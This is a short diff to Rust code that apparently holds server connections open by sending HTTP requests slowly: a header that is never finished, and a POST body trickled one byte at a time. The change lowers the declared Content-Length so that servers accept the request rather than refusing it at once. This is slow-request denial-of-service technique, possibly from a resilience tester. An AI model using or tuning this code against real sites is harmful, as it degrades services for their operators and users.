@@ -243,7 +243,8 @@ async fn hold_one(door: Door, source: Source, kind: u64) -> io::Result<()> {
     match kind {
         0 => drip(&mut stream, &format!("GET /item/7 HTTP/1.1\r\n{HOST}X-Filler: ")).await,
         1 => {
-            let head = format!("POST /basket/7 HTTP/1.1\r\n{HOST}Content-Length: 100000\r\n\r\nn=");
+            // No longer than sites read: one that is refused at once holds nothing.
+            let head = format!("POST /basket/7 HTTP/1.1\r\n{HOST}Content-Length: 8000\r\n\r\nn=");
             stream.write_all(head.as_bytes()).await?;
             drip(&mut stream, "1").await
         }
